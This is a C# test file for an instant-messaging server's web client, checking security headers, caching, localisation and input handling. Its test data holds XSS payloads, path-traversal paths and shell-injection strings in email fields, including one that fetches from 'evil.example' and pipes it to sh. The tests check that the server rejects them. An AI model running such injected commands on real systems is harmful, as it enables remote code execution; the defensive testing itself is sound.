using System.Net;
using System.Text.Json;
using System.Text.RegularExpressions;
using Rvp.Testing;
using RvpServer.Web;

namespace RvpServer.Tests.Web;

public partial class PagesTests
{
    [Theory]
    [InlineData("/")]
    [InlineData("/clients")]
    public async Task A_page_comes_with_a_strict_policy(string page)
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();

        var answer = await browser.GetAsync(page);

        Assert.Equal((HttpStatusCode.OK, "text/html; charset=utf-8", "no-cache"),
            (answer.StatusCode, Header(answer, "Content-Type"), Header(answer, "Cache-Control")));
        Assert.Equal(
            "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; worker-src 'self'; manifest-src 'self'; "
            + "base-uri 'none'; form-action 'self'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types rvp-xml rvp-worker",
            Header(answer, "Content-Security-Policy"));
        Assert.Equal("nosniff", Header(answer, "X-Content-Type-Options"));
        Assert.Equal("no-referrer", Header(answer, "Referrer-Policy"));
        Assert.DoesNotMatch("<script(?![^>]* src=)|<style| style=| on[a-z]+=|javascript:|https?://",
            (await answer.Content.ReadAsStringAsync()).Replace("http://im.adatum.com", "", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Everything_that_a_page_names_is_there_and_kept_for_good()
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();
        var page = await browser.GetStringAsync("/");

        foreach (var path in Reference().Matches(page).Select(match => match.Groups[1].Value).Where(path => path != "clients"))
        {
            var answer = await browser.GetAsync(path);

            Assert.Equal(
                (HttpStatusCode.OK, "public, max-age=31536000, immutable", "nosniff"),
                (answer.StatusCode, Header(answer, "Cache-Control"), Header(answer, "X-Content-Type-Options")));
            if (path.EndsWith(".js", StringComparison.Ordinal)) Assert.Equal("text/javascript; charset=utf-8", Header(answer, "Content-Type"));
        }
    }

    [Fact]
    public async Task What_the_browser_has_already_is_not_sent_again_and_the_rest_is_compressed()
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();
        browser.DefaultRequestHeaders.Add("Accept-Encoding", "gzip, br");
        var first = await browser.GetAsync("/");
        browser.DefaultRequestHeaders.IfNoneMatch.Add(first.Headers.ETag!);

        var second = await browser.GetAsync("/");

        Assert.Equal((HttpStatusCode.OK, "gzip", "Accept-Encoding"), (first.StatusCode, Header(first, "Content-Encoding"), Header(first, "Vary")));
        Assert.Equal((HttpStatusCode.NotModified, ""), (second.StatusCode, await second.Content.ReadAsStringAsync()));
    }

    [Fact]
    public async Task Head_is_get_without_the_body()
    {
        await using var server = await TestServer.StartAsync();
        await using var connection = await server.ConnectAsync();

        await connection.SendAsync("HEAD / HTTP/1.1\r\nHost: im.adatum.com\r\nConnection: close\r\n\r\n");

        var answer = await connection.ReadToEndAsync();
        Assert.StartsWith("HTTP/1.1 200 OK\r\n", answer, StringComparison.Ordinal);
        Assert.EndsWith("\r\n\r\n", answer, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_manifest_names_pictures_that_are_there_and_the_worker_is_asked_for_again()
    {
        await using var application = new RvpApplication(KeyValuePair.Create<string, string?>("WebClient:Path", "/chat"));
        using var browser = application.CreateClient();
        var page = await browser.GetStringAsync("/chat/");

        var names = Reference().Matches(page).Select(match => match.Groups[1].Value);
        var named = await browser.GetAsync("/chat/" + names.Single(path => path.EndsWith(".webmanifest", StringComparison.Ordinal)));
        var manifest = JsonDocument.Parse(await named.Content.ReadAsStringAsync()).RootElement;
        var worker = await browser.GetAsync("/chat/sw.js");

        Assert.Equal("application/manifest+json", Header(named, "Content-Type"));
        Assert.Equal(("Instant messaging", "/chat/", "/chat/"), (Text("name"), Text("start_url"), Text("scope")));
        foreach (var icon in manifest.GetProperty("icons").EnumerateArray())
        {
            var answer = await browser.GetAsync(icon.GetProperty("src").GetString());
            Assert.Equal((HttpStatusCode.OK, icon.GetProperty("type").GetString()), (answer.StatusCode, Header(answer, "Content-Type")));
        }
        Assert.Contains("maskable", manifest.GetRawText(), StringComparison.Ordinal);
        Assert.Equal((HttpStatusCode.OK, "no-cache", "text/javascript; charset=utf-8"),
            (worker.StatusCode, Header(worker, "Cache-Control"), Header(worker, "Content-Type")));
        var files = WorkersFiles().Match(await worker.Content.ReadAsStringAsync()).Groups[1].Value.Split(' ');
        foreach (var file in files) Assert.Equal(HttpStatusCode.OK, (await browser.GetAsync("/chat/" + file)).StatusCode);
        Assert.Contains(files, file => file.EndsWith("/texts-ja.js", StringComparison.Ordinal));

        string? Text(string name) => manifest.GetProperty(name).GetString();
    }

    [Fact]
    public void No_script_makes_markup_out_of_text()
    {
        var assets = new WebAssets();

        foreach (var (name, file) in assets.Files.Where(file => file.Key.EndsWith(".js", StringComparison.Ordinal)))
        {
            var script = System.Text.Encoding.UTF8.GetString(file.Bytes);
            Assert.False(Markup().IsMatch(script), name + " makes markup");
            foreach (Match import in Import().Matches(script))
            {
                Assert.True(assets.Files.ContainsKey(assets.Folder + import.Groups[1].Value), $"{name} imports {import.Groups[1].Value}, which is not there");
            }
        }
    }

    [Fact]
    public void What_is_loaded_at_first_is_small()
    {
        var assets = new WebAssets();
        var first = assets.First.Select(path => assets.Files[path]).ToList();

        Assert.InRange(first.Sum(file => file.Bytes.Length) + assets.Page("index.html").Length, 30_000, 150_000);
        Assert.InRange(first.Sum(file => file.Compressed.Length), 10_000, 55_000);
        Assert.All(["settingspage.js", "dialogs.js", "texts-de.js"], late => Assert.DoesNotContain(assets.Folder + late, assets.First));
        Assert.All(["main.js", "store.js", "style.css"], early => Assert.Contains(assets.Folder + early, assets.First));
    }

    [Fact]
    public void Scripts_are_sent_without_their_comments_and_with_all_their_lines()
    {
        var assets = new WebAssets();

        foreach (var (name, file) in assets.Files.Where(file => file.Key.EndsWith(".js", StringComparison.Ordinal)))
        {
            var source = File.ReadAllText(Repository.PathOf("src/RvpServer/Web/Client/" + Path.GetFileName(name)));
            var sent = System.Text.Encoding.UTF8.GetString(file.Bytes);
            Assert.Equal(source.Count(letter => letter == '\n'), sent.Count(letter => letter == '\n'));
            Assert.DoesNotMatch(@"(?m)^\s*(//|\*|/\*)", sent);
        }
    }

    [Theory]
    [InlineData("GET", "/instmsg/aliases/JoBrown", 501)]
    [InlineData("GET", "/instmsg", 501)]
    [InlineData("GET", "/assets/0000/main.js", 501)]
    [InlineData("GET", "/downloads/../rvpserver.dll", 501)]
    [InlineData("GET", "/downloads/%2e%2e/rvpserver.dll", 501)]
    [InlineData("POST", "/", 501)]
    [InlineData("DELETE", "/", 501)]
    [InlineData("PUT", "/session", 501)]
    [InlineData("OPTIONS", "/session", 501)]
    public async Task What_is_not_the_web_clients_stays_as_it_was(string verb, string target, int status)
    {
        await using var server = await TestServer.StartAsync();

        Assert.Equal(status, (await new Browser(server).AsksAsync(verb, target, "")).Status);
    }

    [Fact]
    public async Task It_lies_where_the_configuration_says()
    {
        await using var application = new RvpApplication(KeyValuePair.Create<string, string?>("WebClient:Path", "/chat"));
        using var browser = application.CreateClient();

        var folder = await browser.GetAsync("/chat");
        var page = await browser.GetAsync("/chat/");
        var session = await browser.GetAsync("/chat/session");
        var root = await browser.GetAsync("/");

        Assert.Equal((HttpStatusCode.PermanentRedirect, "/chat/"), (folder.StatusCode, Header(folder, "Location")));
        Assert.Equal((HttpStatusCode.OK, HttpStatusCode.OK, HttpStatusCode.NotImplemented), (page.StatusCode, session.StatusCode, root.StatusCode));
    }

    [Fact]
    public async Task It_is_not_where_it_is_not_wanted()
    {
        await using var application = new RvpApplication(KeyValuePair.Create<string, string?>("WebClient:Enabled", "false"));
        using var browser = application.CreateClient();

        Assert.NotEqual(HttpStatusCode.OK, (await browser.GetAsync("/")).StatusCode);
    }

    [Fact]
    public async Task The_clients_page_is_filled_in_for_the_server_and_the_person()
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();

        var known = await browser.GetStringAsync("/clients?address=KariHensien@adatum.com");
        var anybody = await browser.GetStringAsync("/clients");

        Assert.Contains("<th scope=\"row\">Username</th><td><bdi>KariHensien@adatum.com</bdi></td>", known, StringComparison.Ordinal);
        Assert.Contains("rvp signin --account \"KariHensien@adatum.com\" --server \"http://im.adatum.com\"\n", known, StringComparison.Ordinal);
        Assert.Contains("<td><bdi>you@adatum.com</bdi></td>", anybody, StringComparison.Ordinal);
        Assert.DoesNotContain("{{", known, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/clients", "", "en", "Clients for")]
    [InlineData("/clients", "fr, de-AT;q=0.7, en;q=0.3", "de", "Programme für")]
    [InlineData("/clients", "en;q=0.3, es", "es", "Programas para")]
    [InlineData("/clients?language=ja", "de", "ja", "で使えるプログラム")]
    [InlineData("/clients?language=AR-eg", "de", "ar", "برامج")]
    [InlineData("/clients?language=../index", "fr", "en", "Clients for")]
    [InlineData("/clients?language=xx&language=de", "nonsense;;q=x", "en", "Clients for")]
    public async Task The_clients_page_speaks_the_language_of_the_browser_or_of_the_web_client(string path, string accepted, string language, string text)
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();
        using var asked = new HttpRequestMessage(HttpMethod.Get, path);
        asked.Headers.TryAddWithoutValidation("Accept-Language", accepted);

        var answer = await browser.SendAsync(asked);

        var page = await answer.Content.ReadAsStringAsync();
        Assert.Equal("Accept-Language, Accept-Encoding", string.Join(", ", answer.Headers.Vary));
        Assert.Contains($"<html lang=\"{language}\"", page, StringComparison.Ordinal);
        Assert.Contains(text, page, StringComparison.Ordinal);
        Assert.DoesNotContain("{{", page, StringComparison.Ordinal);
    }

    [Fact]
    public void The_clients_page_has_the_same_commands_and_places_in_all_languages()
    {
        var assets = new WebAssets();
        var english = Parts(assets.Page("clients.html"));

        Assert.NotEmpty(english);
        foreach (var language in new[] { "de", "es", "ja", "ar" }) Assert.Equal(english, Parts(assets.Page($"clients-{language}.html")));

        static List<string> Parts(string page) => [.. Place().Matches(page).Select(match => match.Value).Order(StringComparer.Ordinal)];
    }

    [Theory]
    [InlineData("<script>alert(1)</script>@adatum.com")]
    [InlineData("\"onmouseover=alert(1)@adatum.com")]
    [InlineData("'x'@adatum.com")]
    public async Task An_address_in_the_link_is_never_markup(string address)
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();

        var page = await browser.GetStringAsync("/clients?address=" + Uri.EscapeDataString(address));

        Assert.DoesNotMatch("<script|\"on|'x'", page);
    }

    [Theory]
    [InlineData("$(curl${IFS}evil.example|sh)@adatum.com")]
    [InlineData("`id`@adatum.com")]
    [InlineData("x;id@adatum.com")]
    [InlineData("x&calc@adatum.com")]
    [InlineData("%PATH%@adatum.com")]
    [InlineData("!!@adatum.com")]
    [InlineData("x\"|id|\"@adatum.com")]
    [InlineData("--server=evil.example@adatum.com")]
    [InlineData("x@$(id)")]
    [InlineData("JoBrown@adatum.com\nid")]
    [InlineData("JoBrown\u202E@adatum.com")]
    public async Task An_address_that_a_shell_could_run_is_not_filled_in(string address)
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();

        var page = await browser.GetStringAsync("/clients?address=" + Uri.EscapeDataString(address));

        Assert.Equal(await browser.GetStringAsync("/clients"), page);
    }

    [Fact]
    public async Task The_clients_page_does_not_say_who_has_an_account()
    {
        await using var application = new RvpApplication();
        using var browser = application.CreateClient();

        var known = await browser.GetStringAsync("/clients?address=KariHensien@adatum.com");
        var nobody = await browser.GetStringAsync("/clients?address=JoBrown@adatum.com");

        Assert.Equal(known, nobody.Replace("JoBrown", "KariHensien", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_program_that_was_put_there_can_be_downloaded()
    {
        var folder = Directory.CreateDirectory(Path.Combine(AppContext.BaseDirectory, "downloads"));
        await File.WriteAllTextAsync(Path.Combine(folder.FullName, "rvp-linux-x64.tar.gz"), "a program");
        try
        {
            await using var application = new RvpApplication();
            using var browser = application.CreateClient();

            var page = await browser.GetStringAsync("/clients");
            var file = await browser.GetAsync("/downloads/rvp-linux-x64.tar.gz");

            Assert.Contains("<li><a href=\"downloads/rvp-linux-x64.tar.gz\" download>Linux</a> (1 MB)</li>", page, StringComparison.Ordinal);
            Assert.Equal((HttpStatusCode.OK, "application/octet-stream", "a program"),
                (file.StatusCode, Header(file, "Content-Type"), await file.Content.ReadAsStringAsync()));
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static string Header(HttpResponseMessage answer, string name) =>
        Assert.Single(answer.Headers.Concat(answer.Content.Headers).Single(header => header.Key == name).Value);

    [GeneratedRegex("(?:src|href)=\"([^\"]+)\"")]
    private static partial Regex Reference();

    [GeneratedRegex("innerHTML|outerHTML|insertAdjacentHTML|document\\.write|\\beval\\(|new Function|srcdoc|setAttribute\\('style'")]
    private static partial Regex Markup();

    [GeneratedRegex(@"\{\{[A-Za-z]+\}\}|(?<=<code[^>]*>)[^<]+|rvp signin --account")]
    private static partial Regex Place();

    [GeneratedRegex("FILES = '([^']+)'")]
    private static partial Regex WorkersFiles();

    [GeneratedRegex("from '\\./([a-z]+\\.js)'")]
    private static partial Regex Import();
}
